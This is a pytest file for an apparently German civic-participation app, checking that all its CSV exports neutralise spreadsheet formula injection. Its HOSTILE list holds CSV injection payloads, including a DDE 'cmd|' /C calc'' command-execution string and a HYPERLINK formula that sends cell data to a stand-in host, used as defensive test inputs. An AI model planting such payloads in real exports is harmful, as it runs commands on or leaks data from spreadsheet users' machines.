"""Every CSV the app writes neutralises spreadsheet formulas (OWASP CSV injection) and reads back unchanged."""
from __future__ import annotations

import ast
import csv
import re
from pathlib import Path

import pytest
from test_draw_support import make_register, replace_rows

from quartierslabor_app.cli.main import main
from quartierslabor_app.core.clustering.card_files import read_cards, write_assignments
from quartierslabor_app.core.clustering.model import Assignment
from quartierslabor_app.core.csv_output import FORMULA_STARTS, guard_cell, unguard_cell
from quartierslabor_app.core.demo import generate_register, write_register_csv, write_street_directory
from quartierslabor_app.core.draw import DrawSettings, run_draw, write_invitee_list
from quartierslabor_app.core.draw.exclusion import load_exclusion_keys
from quartierslabor_app.core.register.model import ValidationIssue
from quartierslabor_app.core.register.reader import read_register
from quartierslabor_app.qt.draw.validation_report import write_validation_report

HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1;\"klick\")", "-2+3+cmd|' /C calc'!A0", "+49 231 1", "@SUM(A1)",
           "\t=1+1", "\r=1+1", "'=1+1", "''@x", "=", "-"]
PACKAGE = Path(__file__).resolve().parents[1] / "quartierslabor_app"


def _cells(path: Path, delimiter: str, encoding: str = "utf-8-sig") -> list[str]:
    with open(path, encoding=encoding, newline="") as fh:
        return [c for row in csv.reader(fh, delimiter=delimiter) for c in row]


def _assert_inert(cells: list[str]) -> None:
    active = [c for c in cells if c[:1] in FORMULA_STARTS and not re.fullmatch(r"-?\d+(?:[.,]\d+)?", c)]
    assert not active, f"cells a spreadsheet would run: {active}"


@pytest.mark.parametrize("text", HOSTILE + ["'t Hooft", "-1,5", "normal", "", "'", "''"])
def test_guard_is_exactly_reversible(text: str) -> None:
    written = guard_cell(text)
    assert written[:1] not in FORMULA_STARTS or written in ("-1,5",)
    assert unguard_cell(written) == text


def test_invitee_list_csv(tmp_path: Path) -> None:
    reg = make_register(ages=[20 + 3 * i for i in range(len(HOSTILE))], genders=["w", "m"] * 5,
                        districts=["Eving"] * len(HOSTILE))
    rows = list(reg.table.rows)
    for i, text in enumerate(HOSTILE):
        rows[i][0] = text
        rows[i][1] = text
    replace_rows(reg, rows)
    res = run_draw(reg, DrawSettings(size=len(HOSTILE), strata=()), "seed")
    path = write_invitee_list(tmp_path / "liste.csv", reg, res)
    _assert_inert(_cells(path, ";"))
    table = read_register(path)   # the app's own reader (exclusion lists) gets the original names back
    assert {row[0] for row in table.rows} == {t.replace("\r", "\n") for t in HOSTILE}  # reader: CR -> LF
    assert load_exclusion_keys(path) == frozenset(reg.person_key)


def test_cluster_assignments_csv(tmp_path: Path) -> None:
    out = tmp_path / "zuordnung.csv"
    assignments = [Assignment(cluster_key="=k", cluster_name=t, reason="@" + t, score=-0.5) for t in HOSTILE]
    write_assignments(out, HOSTILE, assignments)
    _assert_inert(_cells(out, ","))
    assert read_cards(out) == [t.strip() for t in HOSTILE if t.strip()]


def test_cluster_refuses_xlsx_name(tmp_path: Path, capsys) -> None:
    cards = tmp_path / "karten.txt"
    cards.write_text("Müll am Spielplatz\nZu schnell gefahren\n", encoding="utf-8")
    code = main(["cluster", str(cards), "--out", str(tmp_path / "z.xlsx")])
    err = capsys.readouterr().err
    assert code == 2
    assert ".csv" in err and "Traceback" not in err
    assert not (tmp_path / "z.xlsx").exists()


def test_validation_report_csv(tmp_path: Path) -> None:
    reg = make_register(ages=[30, 40], genders=["w", "m"], districts=["Eving"] * 2, file_name="=cmd|' /C calc'!A0")
    reg.issues.extend(ValidationIssue(row=2, column=t, message=t) for t in HOSTILE)
    path = write_validation_report(tmp_path / "bericht.csv", reg)
    cells = _cells(path, ";")
    _assert_inert(cells)
    assert "'=cmd|' /C calc'!A0" in cells


def test_demo_register_and_street_directory_csv(tmp_path: Path) -> None:
    rows = generate_register(len(HOSTILE), seed=3)
    for row, text in zip(rows, HOSTILE):
        row["family_name"] = text
    path = write_register_csv(tmp_path / "register.csv", rows, encoding="utf-8")
    _assert_inert(_cells(path, ";", "utf-8"))
    assert {r[0] for r in read_register(path).rows} == {t.replace("\r", "\n") for t in HOSTILE}
    entries = [{"street": t, "low": None, "high": None, "district": "=Eving", "subdistrict": "@x"} for t in HOSTILE]
    directory = write_street_directory(tmp_path / "strassen.csv", entries, encoding="utf-8")
    _assert_inert(_cells(directory, ";", "utf-8"))


def test_every_csv_writer_goes_through_the_guard() -> None:
    """A new ``csv.writer`` / ``DictWriter`` anywhere in the app must use :mod:`csv_output` (and get a test here)."""
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        if path.name == "csv_output.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "csv"
                    and node.attr in ("writer", "DictWriter")):
                offenders.append(f"{path.relative_to(PACKAGE)}:{node.lineno}")
    assert offenders == []



def test_panel_and_probabilities_csv(tmp_path: Path) -> None:
    from quartierslabor_app.core.selection.panel.files import write_panel_csv, write_probabilities_csv
    from quartierslabor_app.core.selection.panel.quotas import Respondent

    people = [Respondent(id=t, features={"=feature": "@" + t, "bezirk": t}) for t in HOSTILE]
    probabilities = {t: 0.5 for t in HOSTILE}
    features = ["=feature", "bezirk"]
    panel = write_panel_csv(tmp_path / "panel.csv", people, HOSTILE[:4], probabilities, features)
    probs = write_probabilities_csv(tmp_path / "wahrscheinlichkeiten.csv", people, HOSTILE[:4], probabilities,
                                    features)
    for path in (panel, probs):
        _assert_inert(_cells(path, ";"))
